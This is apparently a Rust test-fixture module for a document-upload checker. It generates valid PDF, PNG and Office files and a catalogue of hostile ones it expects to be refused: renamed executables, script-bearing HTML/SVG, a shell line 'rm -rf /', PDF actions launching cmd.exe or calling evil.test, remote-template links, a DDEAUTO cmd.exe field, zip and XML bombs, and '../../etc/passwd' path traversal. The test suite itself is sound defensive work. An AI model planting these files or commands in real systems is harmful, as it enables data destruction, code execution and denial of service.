//! Files made by the tests themselves: good ones of every kind, and hostile ones of every sort.

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::{Path, PathBuf};

use flate2::Compression;
use flate2::write::DeflateEncoder;
use thuocdo_files::Unfit;

/// Where a folder of files keeps one that stays.
pub fn stored(root: &Path, sha256: &str) -> PathBuf {
    let (fan, rest) = sha256.split_at(2);
    root.join("objects").join(fan).join(rest)
}

/// A PDF with so many pages; each says its number. `filler` bytes lie in a stream that no page shows.
pub fn pdf(pages: usize, filler: &[u8]) -> Vec<u8> {
    let says = |page: usize| format!("BT /F1 48 Tf 72 700 Td (Trang {}) Tj ET", page + 1).into_bytes();
    paper(filler, "595 842", &(0..pages).map(says).collect::<Vec<_>>())
}

/// A PDF of one page of this size that shows this.
pub fn pdf_of(filler: &[u8], size: &str, content: &[u8]) -> Vec<u8> {
    paper(filler, size, &[content.to_vec()])
}

fn paper(filler: &[u8], size: &str, contents: &[Vec<u8>]) -> Vec<u8> {
    let pages = contents.len();
    let kids: String = (0..pages).map(|page| format!("{} 0 R ", 5 + page * 2)).collect();
    let mut objects: Vec<Vec<u8>> = vec![
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        format!("<</Type/Pages/Kids[{kids}]/Count {pages}>>").into_bytes(),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>".to_vec(),
        stream(filler),
    ];
    for (page, content) in contents.iter().enumerate() {
        let head = format!("<</Type/Page/Parent 2 0 R/MediaBox[0 0 {size}]/Resources<</Font<</F1 3 0 R>>>>");
        objects.push(format!("{head}/Contents {} 0 R>>", 6 + page * 2).into_bytes());
        objects.push(stream(content));
    }
    assembled(&objects)
}

fn stream(bytes: &[u8]) -> Vec<u8> {
    let mut object = format!("<</Length {}>>\nstream\n", bytes.len()).into_bytes();
    object.extend_from_slice(bytes);
    object.extend_from_slice(b"\nendstream");
    object
}

/// Writes objects one after the other, with the table of where each begins.
fn assembled(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut file = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut table = format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    for (number, object) in objects.iter().enumerate() {
        let _ = writeln!(table, "{:010} 00000 n ", file.len());
        file.extend_from_slice(format!("{} 0 obj\n", number + 1).as_bytes());
        file.extend_from_slice(object);
        file.extend_from_slice(b"\nendobj\n");
    }
    let at = file.len();
    let tail = format!("{table}trailer\n<</Size {}/Root 1 0 R>>\nstartxref\n{at}\n%%EOF\n", objects.len() + 1);
    file.extend_from_slice(tail.as_bytes());
    file
}

/// A PNG of one grey, or one that only claims its size if `whole` is not set.
pub fn png(width: u32, height: u32, whole: bool) -> Vec<u8> {
    let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut head = Vec::new();
    head.extend_from_slice(&width.to_be_bytes());
    head.extend_from_slice(&height.to_be_bytes());
    head.extend_from_slice(&[8, 0, 0, 0, 0]);
    chunk(&mut file, *b"IHDR", &head);
    let row = vec![0x80; if whole { width as usize + 1 } else { 16 }];
    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), Compression::fast());
    for _ in 0..if whole { height } else { 1 } {
        let mut line = row.clone();
        line[0] = 0;
        packed.write_all(&line).expect("memory");
    }
    chunk(&mut file, *b"IDAT", &packed.finish().expect("memory"));
    chunk(&mut file, *b"IEND", &[]);
    file
}

fn chunk(file: &mut Vec<u8>, name: [u8; 4], bytes: &[u8]) {
    file.extend_from_slice(&u32::try_from(bytes.len()).expect("a small chunk").to_be_bytes());
    let mut sum = flate2::Crc::new();
    sum.update(&name);
    sum.update(bytes);
    file.extend_from_slice(&name);
    file.extend_from_slice(bytes);
    file.extend_from_slice(&sum.sum().to_be_bytes());
}

/// A Word document with more parts than usual.
pub fn docx(more: &[(&str, &[u8])]) -> Vec<u8> {
    office("word/document.xml", "wordprocessingml.document.main+xml", more)
}

/// An Excel workbook with more parts than usual.
pub fn xlsx(more: &[(&str, &[u8])]) -> Vec<u8> {
    office("xl/workbook.xml", "spreadsheetml.sheet.main+xml", more)
}

/// A workbook that can be read, with this text of its one sheet: `<sheetData>…`.
pub fn workbook(sheet: &str) -> Vec<u8> {
    workbook_with(sheet, &[])
}

fn workbook_with(sheet: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    const MAIN: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    const SPACE: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    const LINKS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let types = format!(r#"<Types><Override PartName="/xl/workbook.xml" ContentType="{MAIN}"/></Types>"#);
    let book = format!(
        r#"<workbook xmlns="{SPACE}" xmlns:r="{LINKS}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>"#
    );
    let root = format!(
        r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
    );
    let strings = format!(r#"<Relationship Id="r2" Type="{LINKS}/sharedStrings" Target="sharedStrings.xml"/>"#);
    let strings = if more.is_empty() { "" } else { strings.as_str() };
    let links = format!(
        r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{LINKS}/worksheet" Target="worksheets/sheet1.xml"/>{strings}</Relationships>"#
    );
    let sheet = format!(r#"<worksheet xmlns="{SPACE}">{sheet}</worksheet>"#);
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/_rels/workbook.xml.rels", links.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ];
    parts.extend_from_slice(more);
    container(&parts)
}

/// A cell with text of its own.
pub fn cell(place: &str, text: &str) -> String {
    format!(r#"<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>"#)
}

/// Workbooks whose structure is sound and whose content is made to exhaust whoever reads them; all are refused.
pub fn greedy() -> Vec<(&'static str, Vec<u8>)> {
    let sheet = |rows: &str| format!("<sheetData>{rows}</sheetData>");
    let far = format!("<row r=\"1\">{}</row><row r=\"1048576\">{}</row>", cell("A1", "a"), cell("XFD1048576", "b"));
    let wide = format!("<row r=\"1\">{}{}</row>", cell("A1", "a"), cell("XFD1", "b"));
    let million: String =
        (1..=1_000_000).map(|row| format!("<row r=\"{row}\"><c r=\"A{row}\"><v>{row}</v></c></row>")).collect();
    let place = format!("<row r=\"1\">{}</row>", cell("ZZZZZZZ99999999999999999999", "a"));
    let strings = "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"4294967295\" uniqueCount=\"4294967295\"><si><t>a</t></si>";
    let deep = format!("{}{}", "<row>".repeat(200_000), "</row>".repeat(200_000));
    vec![
        ("a cell at each end of the sheet", workbook(&sheet(&far))),
        ("a cell in the last column", workbook(&sheet(&wide))),
        ("a million rows", workbook(&sheet(&million))),
        ("a cell beyond all sheets", workbook(&sheet(&place))),
        (
            "strings that promise four thousand million and end",
            workbook_with(&sheet(""), &[("xl/sharedStrings.xml", strings.as_bytes())]),
        ),
        ("rows in rows in rows", workbook(&format!("<sheetData>{deep}"))),
        ("a sheet that ends in the middle", workbook("<sheetData><row r=\"1\"><c r=\"A1\"><v>1")),
    ]
}

/// Papers with scripts and files inside: let in as evidence, kept as they are, never opened by us or in a page.
pub fn inert() -> Vec<(&'static str, Vec<u8>)> {
    [
        "/JavaScript/JS(app.alert\\(1\\))",
        "/Launch/F(cmd.exe)",
        "/URI/URI(http://evil.test)",
        "/SubmitForm/F(http://evil.test)",
    ]
    .into_iter()
    .map(|action| {
        let mut paper = pdf(1, format!("<</OpenAction<</S{action}>>>>").as_bytes());
        let at = paper.windows(8).position(|at| at == b"/Catalog").unwrap_or_default() + 8;
        // The table of places is found anew by readers that need it.
        paper.splice(at..at, format!("/OpenAction<</S{action}>>").into_bytes());
        ("van-ban.pdf", paper)
    })
    .collect()
}

fn office(main: &str, kind: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let kind = format!("application/vnd.openxmlformats-officedocument.{kind}");
    let types = format!(r#"<?xml version="1.0"?><Types><Override PartName="/{main}" ContentType="{kind}"/></Types>"#);
    let relations = r#"<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.test" TargetMode="External"/></Relationships>"#;
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", relations.as_bytes()),
        (main, b"<?xml version=\"1.0\"?><body/>"),
    ];
    parts.extend_from_slice(more);
    container(&parts)
}

/// A ZIP container.
pub fn container(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut file, mut directory) = (Vec::new(), Vec::new());
    for (name, bytes) in parts {
        let mut packed = DeflateEncoder::new(Vec::new(), Compression::best());
        packed.write_all(bytes).expect("memory");
        let packed = packed.finish().expect("memory");
        let mut sum = flate2::Crc::new();
        sum.update(bytes);
        let at = u32::try_from(file.len()).expect("a small file");
        let head = common(name, sum.sum(), packed.len(), bytes.len());
        file.extend_from_slice(b"PK\x03\x04");
        file.extend_from_slice(&head);
        file.extend_from_slice(name.as_bytes());
        file.extend_from_slice(&packed);
        directory.extend_from_slice(b"PK\x01\x02\x14\x00");
        directory.extend_from_slice(&head);
        directory.extend_from_slice(&[0; 10]);
        directory.extend_from_slice(&at.to_le_bytes());
        directory.extend_from_slice(name.as_bytes());
    }
    ended(file, &directory, parts.len())
}

fn common(name: &str, sum: u32, packed: usize, whole: usize) -> Vec<u8> {
    let mut head = vec![20, 0, 0, 0, 8, 0, 0, 0, 0, 0];
    head.extend_from_slice(&sum.to_le_bytes());
    for size in [packed, whole] {
        head.extend_from_slice(&u32::try_from(size).expect("a small part").to_le_bytes());
    }
    head.extend_from_slice(&u16::try_from(name.len()).expect("a short name").to_le_bytes());
    head.extend_from_slice(&[0, 0]);
    head
}

fn ended(mut file: Vec<u8>, directory: &[u8], count: usize) -> Vec<u8> {
    let at = u32::try_from(file.len()).expect("a small file");
    file.extend_from_slice(directory);
    file.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    let count = u16::try_from(count).expect("few parts").to_le_bytes();
    file.extend_from_slice(&[count, count].concat());
    file.extend_from_slice(&u32::try_from(directory.len()).expect("a small directory").to_le_bytes());
    file.extend_from_slice(&at.to_le_bytes());
    file.extend_from_slice(&[0, 0]);
    file
}

/// A file of Word or Excel 97–2003: its sign, and a directory with these names.
pub fn ole(names: &[&str]) -> Vec<u8> {
    let mut file = vec![0; 512];
    file[..8].copy_from_slice(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    for name in names {
        let mut record = [0; 128];
        for (place, unit) in name.encode_utf16().enumerate() {
            record[place * 2..place * 2 + 2].copy_from_slice(&unit.to_le_bytes());
        }
        record[64] = u8::try_from(name.encode_utf16().count() * 2 + 2).expect("a short name");
        record[66] = 2;
        file.extend_from_slice(&record);
    }
    file.resize(file.len().next_multiple_of(512), 0);
    file
}

/// A hostile or broken file: its name, its bytes, and why it is refused.
pub type Hostile = (String, Vec<u8>, Unfit);

/// Files that must be refused.
pub fn hostile() -> Vec<Hostile> {
    let mut all = renamed();
    all.extend(macros_and_objects());
    all.extend(links());
    all.extend(bombs());
    all.extend(broken());
    all
}

fn one(name: &str, bytes: impl Into<Vec<u8>>, why: Unfit) -> Hostile {
    (name.to_owned(), bytes.into(), why)
}

fn renamed() -> Vec<Hostile> {
    let program = b"MZ\x90\0\x03\0\0\0program of another system".to_vec();
    let page = b"<!doctype html><script>alert(1)</script>".to_vec();
    let drawing = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec();
    let both = [page.clone(), pdf(1, b"")].concat();
    let mut all = Vec::new();
    for extension in ["pdf", "png", "jpg", "docx", "xlsx", "doc", "xls"] {
        for bytes in [&program, &page, &drawing, &b"#!/bin/sh\nrm -rf /\n".to_vec(), &b"\x7fELF\x02\x01\x01".to_vec()] {
            all.push(one(&format!("tep.{extension}"), bytes.clone(), Unfit::Renamed));
        }
    }
    all.push(one("tep.pdf", both, Unfit::Renamed));
    all.push(one("tep.png", pdf(1, b""), Unfit::Renamed));
    all.push(one("tep.jpg", png(8, 8, true), Unfit::Renamed));
    all.push(one("tep.pdf", docx(&[]), Unfit::Renamed));
    all.push(one("tep.docx", xlsx(&[]), Unfit::Renamed));
    all.push(one("tep.xlsx", docx(&[]), Unfit::Renamed));
    all.push(one("tep.doc", ole(&["Workbook"]), Unfit::Renamed));
    for name in ["tep.svg", "tep.html", "tep.exe", "tep.docm", "tep.xlsm", "tep.zip", "tep.pdf.exe", "tep", "tep.js"] {
        all.push(one(name, pdf(1, b""), Unfit::Forbidden));
    }
    all.push(one("tep.docx", container(&[("a.txt", b"a")]), Unfit::Forbidden));
    all.push(one("tep.xls", ole(&["Anything"]), Unfit::Forbidden));
    all
}

fn macros_and_objects() -> Vec<Hostile> {
    let sign = ole(&[]);
    vec![
        one("tep.docx", docx(&[("word/vbaProject.bin", &sign)]), Unfit::Macros),
        one("tep.docx", docx(&[("word/VBAPROJECT.BIN", b"x")]), Unfit::Macros),
        one("tep.docx", docx(&[("word/vbaData.xml", b"<a/>")]), Unfit::Macros),
        one("tep.xlsx", xlsx(&[("xl/vbaProject.bin", b"x")]), Unfit::Macros),
        one("tep.xlsx", xlsx(&[("xl/macrosheets/sheet1.xml", b"<a/>")]), Unfit::Macros),
        one("tep.doc", ole(&["WordDocument", "_VBA_PROJECT"]), Unfit::Macros),
        one("tep.doc", ole(&["WordDocument", "Macros"]), Unfit::Macros),
        one("tep.xls", ole(&["Workbook", "_VBA_PROJECT_CUR"]), Unfit::Macros),
        one("tep.docx", docx(&[("word/embeddings/oleObject1.bin", b"x")]), Unfit::Embedded),
        one("tep.docx", docx(&[("word/media/image1.emf", &sign)]), Unfit::Embedded),
        one("tep.docx", docx(&[("word/activeX/activeX1.xml", b"<a/>")]), Unfit::Embedded),
        one("tep.docx", docx(&[("word/media/a.png", &container(&[("a", b"b")]))]), Unfit::Embedded),
        one("tep.docx", docx(&[("word/embeddings/a.xlsx", &xlsx(&[("xl/vbaProject.bin", b"x")]))]), Unfit::Macros),
        one("tep.docx", docx(&[("word/embeddings/a.xlsx", &xlsx(&[("b.xlsx", &xlsx(&[]))]))]), Unfit::Embedded),
        one("tep.doc", ole(&["WordDocument", "ObjectPool"]), Unfit::Embedded),
        one("tep.docx", ole(&["EncryptedPackage"]), Unfit::Locked),
        one("tep.xls", ole(&["Workbook", "EncryptedPackage"]), Unfit::Locked),
    ]
}

fn links() -> Vec<Hostile> {
    let outside = |kind: &str, quote: char| {
        let text = format!(
            r#"<Relationships><Relationship Id="1" Type="http://x/relationships/{kind}" Target="http://evil.test/a.dotm" TargetMode = "External"/></Relationships>"#
        );
        text.replace('"', &quote.to_string()).into_bytes()
    };
    let mut all = Vec::new();
    for kind in ["attachedTemplate", "oleObject", "image", "frame", "subDocument", "externalLinkPath"] {
        for quote in ['"', '\''] {
            let relations = outside(kind, quote);
            all.push(one("tep.docx", docx(&[("word/_rels/document.xml.rels", &relations)]), Unfit::Linked));
        }
    }
    let dde = b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>";
    all.push(one("tep.docx", docx(&[("word/header1.xml", dde)]), Unfit::Linked));
    all.push(one("tep.xlsx", xlsx(&[("xl/externalLinks/externalLink1.xml", b"<ddeLink/>")]), Unfit::Linked));
    all
}

fn bombs() -> Vec<Hostile> {
    let zeros = vec![0; 32 * 1024 * 1024];
    let many: Vec<(String, Vec<u8>)> = (0..2_001).map(|part| (format!("p{part}"), Vec::new())).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(name, bytes)| (name.as_str(), bytes.as_slice())).collect();
    let laughs = b"<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><l>&b;</l>";
    vec![
        one("tep.docx", docx(&[("word/media/a.bin", &zeros)]), Unfit::Bomb),
        one("tep.xlsx", xlsx(&[("xl/a.xml", &zeros), ("xl/b.xml", &zeros)]), Unfit::Bomb),
        one("tep.docx", container(&many), Unfit::Bomb),
        one("tep.docx", docx(&[("word/styles.xml", laughs)]), Unfit::Bomb),
        one("tep.xlsx", xlsx(&[("xl/styles.xml", laughs)]), Unfit::Bomb),
        one("tep.docx", overlapping(), Unfit::Bomb),
        one("tep.png", png(60_000, 60_000, false), Unfit::Pixels),
        one("tep.png", png(7_100, 7_100, false), Unfit::Pixels),
    ]
}

/// Two entries of the directory that unpack the same bytes.
fn overlapping() -> Vec<u8> {
    let mut file = docx(&[("word/a.xml", b"<a/>"), ("word/b.xml", b"<a/>")]);
    let found: Vec<usize> = (0..file.len() - 4).filter(|at| file[*at..].starts_with(b"PK\x01\x02")).collect();
    let (first, second) = (found[found.len() - 2], found[found.len() - 1]);
    let place = file[first + 42..first + 46].to_vec();
    file[second + 42..second + 46].copy_from_slice(&place);
    file
}

fn broken() -> Vec<Hostile> {
    let (document, picture, paper) = (docx(&[]), png(64, 64, true), pdf(2, b""));
    let half = |bytes: &[u8]| bytes[..bytes.len() / 2].to_vec();
    let nested = [b"%PDF-1.7\n1 0 obj\n".to_vec(), vec![b'['; 200_000], b"\n%%EOF\n".to_vec()].concat();
    let mut flagged = document.clone();
    let at = (0..flagged.len() - 4).find(|at| flagged[*at..].starts_with(b"PK\x01\x02")).unwrap_or_default();
    flagged[at + 8] |= 1;
    vec![
        one("tep.pdf", Vec::new(), Unfit::Empty),
        one("tep.docx", half(&document), Unfit::Damaged),
        one("tep.png", half(&picture), Unfit::Damaged),
        one("tep.pdf", half(&paper), Unfit::Damaged),
        one("tep.pdf", b"%PDF-1.7\n%%EOF\n".to_vec(), Unfit::Damaged),
        one("tep.pdf", nested, Unfit::Damaged),
        one("tep.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01".to_vec(), Unfit::Damaged),
        one("tep.docx", flagged, Unfit::Locked),
        one("tep.docx", docx(&[("../../etc/passwd", b"x")]), Unfit::Damaged),
        one("tep.docx", docx(&[("/etc/passwd", b"x")]), Unfit::Damaged),
        one("tep.docx", [document.as_slice(), b"after the end"].concat(), Unfit::Damaged),
        one("tep.docx", [b"PK\x03\x04".as_slice(), &document].concat(), Unfit::Damaged),
    ]
}
